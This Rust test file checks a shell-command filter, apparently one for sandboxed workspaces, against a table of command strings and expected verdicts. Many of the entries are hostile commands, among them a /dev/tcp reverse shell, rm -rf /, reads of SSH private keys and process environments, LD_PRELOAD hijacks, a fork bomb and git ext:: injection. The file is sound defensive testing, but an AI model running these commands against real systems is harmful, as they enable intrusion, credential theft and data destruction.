//! The cases of the reference, by their numbers there.

use crate::table;

#[test]
fn hostile_command_lines_have_our_verdicts() {
    table(&[
        // Interpreters and scripts pass: what they do is up to the kernel. What they run in
        // plain words is seen.
        ("H-01", "bash -c 'id'", "allow"),
        ("H-01", "sh script.sh", "allow"),
        ("H-01", "env /bin/sh", "path"),
        ("H-01", "env -S 'sh -c id'", "not_understood"),
        ("H-01", "timeout 5 /opt/evil", "path"),
        ("H-02", r#"python -c '__import__("os").system("id")'"#, "allow"),
        ("H-02", r#"node -e 'require("child_process").execSync("id")'"#, "allow"),
        ("H-03", "echo $(/opt/evil) ; true", "path"),
        ("H-04", "A=$(/opt/evil);true", "path"),
        ("H-05", "ls > x & /opt/evil", "path"),
        ("H-05", "true < x & /opt/evil", "path"),
        ("H-06", "true < <(evil)", "not_listed"),
        ("H-07", "find . -exec sh -c id +", "allow"),
        ("H-07", "find . -exec sh -c 'sudo id' +", "privilege"),
        ("H-07", "find / -delete", "recursive_remove"),
        ("H-07", "echo x | xargs sh -c", "not_understood"),
        ("H-08", r#"awk 'BEGIN{system("id")}'"#, "allow"),
        ("H-08", "sed '1e id' f", "allow"),
        ("H-08", "tar cf x --checkpoint=1 --checkpoint-action=exec=id y", "allow"),
        ("H-08", "sort --compress-program=/t/e f", "allow"),
        ("H-08", "rg --pre /t/e x", "allow"),
        ("H-08", "gcc -wrapper sh,-c,id x.c", "allow"),
        ("H-08", "make -f M", "allow"),
        ("H-09", "git -c core.sshCommand=id fetch", "allow"),
        ("H-09", "git -c alias.x='!id' x", "allow"),
        ("H-09", "git grep -Oid x", "allow"),
        ("H-10", r"bash -c $'sud\x6f id'", "privilege"),
        ("H-11", "rm -fr /", "recursive_remove"),
        ("H-11", "rm -r -f /", "recursive_remove"),
        ("H-11", "rm -rf -- /", "recursive_remove"),
        ("H-11", "rm -Rf /etc", "recursive_remove"),
        ("H-11", "rm -rf /workspaces", "recursive_remove"),
        ("H-12", "chmod 0777 x", "world_writable"),
        ("H-12", "chmod a+rwx x", "world_writable"),
        ("H-12", "chmod -R 777 x", "world_writable"),
        ("H-13", "bash -c 'bash -i >& /dev/tcp/198.51.100.7/9 0>&1'", "device"),
        ("H-14", "PATH=/tmp/e:$PATH ls;true", "program_lookup"),
        ("H-14", "LD_PRELOAD=./e.so ls;true", "program_lookup"),
        ("H-15", "cat /etc/pass?d | cat", "allow"),
    ]);
}

#[test]
fn isolation_is_left_to_the_kernel() {
    table(&[
        ("H-16", "cat /workspaces/other/.ssh/id_ed25519", "allow"),
        ("H-16", "cp -r ../other .", "allow"),
        ("H-17", "ls > /workspaces/other/f", "allow"),
        ("H-17", "tee /workspaces/other/f", "allow"),
        ("H-17", "wget -O /workspaces/other/f http://h/x", "allow"),
        ("H-17", "tree -o /workspaces/other/f", "allow"),
        ("H-17", "find . -fprintf /workspaces/other/f x", "allow"),
        ("H-18", "cat /proc/1/environ", "allow"),
        ("H-19", "curl -s http://localhost:8081/workspaces/other/files", "allow"),
        ("H-20", "curl telnet://redis:6379", "allow"),
        ("H-21", "kill -9 -1", "allow"),
        ("H-21", "kill 1", "allow"),
        ("H-22", "cp evil.py /app/worker/executor.py", "allow"),
        ("H-23", "curl http://169.254.169.254/latest", "allow"),
        ("H-23", "pip install evil", "allow"),
        ("H-23", "npx evil", "allow"),
        ("H-24", "ln -sfn /etc d; ln -sfn repos d", "allow"),
        ("H-25", "ln .ssh/id_ed25519 k", "allow"),
        ("H-29", "git clone 'ext::sh -c touch% x'", "allow"),
        ("H-30", "echo x > .workspace_meta.json", "allow"),
        ("H-31", "rm -rf repos && touch repos", "allow"),
    ]);
}

#[test]
fn resources_are_left_to_the_kernel_but_devices_are_not() {
    table(&[
        ("H-42", "cat /dev/zero", "device"),
        ("H-42", "head -c 10G /dev/zero", "device"),
        ("H-43", "bash -c 'sleep 9999 & echo hi'", "allow"),
        ("H-44", "sleep 100000 | cat", "allow"),
        ("H-45", r#"python -c 'while 1: __import__("os").fork()'"#, "allow"),
    ]);
}

#[test]
fn every_honest_command_line_passes() {
    table(&[
        ("13.6-01", "git commit -m 'fix; cleanup'", "allow"),
        ("13.6-02", r#"git commit -m "fix: mount option""#, "allow"),
        ("13.6-03", "git commit -m 'first line\n\nsecond line'", "allow"),
        ("13.6-03", "git commit -m \"first line\n\nsecond line\"", "allow"),
        ("13.6-04", "git log --format='%H|%s'", "allow"),
        ("13.6-05", "grep mount f", "allow"),
        ("13.6-06", "echo hi > /dev/null", "allow"),
        ("13.6-07", "ls 2>/dev/null", "allow"),
        ("13.6-08", "(ls)", "allow"),
        ("13.6-09", "if true; then ls; fi", "allow"),
        ("13.6-10", "for i in 1 2; do ls; done", "allow"),
        ("13.6-11", "! ls", "allow"),
        ("13.6-12", "time ls", "allow"),
        ("13.6-13", "[ -f x ]", "allow"),
        ("13.6-14", "npm run passwd-test", "allow"),
        ("13.6-15", "git commit -m 'support su mode'", "allow"),
        ("13.6-16", "ls #note | x", "allow"),
        ("13.6-17", "ls *.py", "allow"),
        ("13.6-18", "ls $HOME", "allow"),
        ("13.6-19", "FOO=bar python x.py", "allow"),
        ("13.6-20", "cd foo", "allow"),
        ("13.6-21", "export A=1", "allow"),
        ("design", "git commit -m 'fix; mount'", "allow"),
    ]);
}

#[test]
fn the_conformance_vectors_have_our_verdicts() {
    table(&[
        ("C-exec", "ls\tx", "allow"),
        ("C-exec", "git diff HEAD~1", "allow"),
        ("C-exec", "echo x=1", "allow"),
        ("C-exec", "pytest -k 'a or b'", "allow"),
        ("C-exec", "git log --format='%H %s' -5", "allow"),
        ("C-exec", "docker-compose up", "allow"),
        // Accepted there and then an error; a shell would not run it either.
        ("C-exec", r#"echo "unterminated"#, "not_understood"),
        ("C-exec", "A=1", "allow"),
        ("C-shell", "npm test && npm run lint", "allow"),
        ("C-shell", "python script.py > output.log 2>&1", "allow"),
        ("C-shell", "ls 2>&1", "allow"),
        ("C-shell", "ls >&2", "allow"),
        ("C-shell", "X=1;ls", "allow"),
        ("C-shell", "FOO=bar python x.py | cat", "allow"),
        ("C-shell", "test -f x && ls", "allow"),
        ("C-shell", "git diff HEAD~1 > out.patch", "allow"),
        ("C-path", "/usr/bin/python x", "path"),
        ("C-path", "./run.sh", "path"),
        ("C-path", "../x", "path"),
        // The same operation as `source x.sh`, which is on the list.
        ("C-path", ". x.sh", "allow"),
        ("C-path", "A=1 /bin/sh", "path"),
        // Another spelling of `ls`.
        ("C-path", r"l\s", "allow"),
        ("C-list", "perl -e 1", "not_listed"),
        ("C-list", "base64 x", "not_listed"),
        ("C-list", "nc h 1", "not_listed"),
        ("C-list", "ssh h", "not_listed"),
        ("C-list", "dd of=x if=/dev/zero", "disk"),
        ("C-list", "yes", "not_listed"),
        // The same operations as `ls` and `ls x`.
        ("C-list", "exec ls", "allow"),
        ("C-list", r#""ls" x"#, "allow"),
        ("C-list", "ls;;evil", "not_understood"),
        ("C-list", "ls|&evil", "not_listed"),
        ("C-pattern", "rm -rf /", "recursive_remove"),
        ("C-pattern", "rm -rf /etc", "recursive_remove"),
        ("C-pattern", "rm -rf //", "recursive_remove"),
        ("C-pattern", "sudo ls", "privilege"),
        ("C-pattern", "chmod 777 x", "world_writable"),
        // Reading a file is no user command; the kernel decides which files there are.
        ("C-pattern", "cat /etc/passwd", "allow"),
        ("C-pattern", "echo x > /dev/null", "allow"),
        ("C-pattern", "echo `id`", "backtick"),
        ("C-pattern", "ls\nls", "newline"),
        ("C-space", "ls & evil", "not_listed"),
        ("C-space", "ls\rx", "not_understood"),
        ("C-space", "ls\u{b}x", "not_understood"),
        ("C-space", "ls\u{c}x", "not_understood"),
    ]);
    // These are part of the word to a shell, so there is no such command.
    for space in ['\u{a0}', '\u{2028}'] {
        assert_ne!(crate::rule(&format!("ls{space}x")), "allow");
    }
}
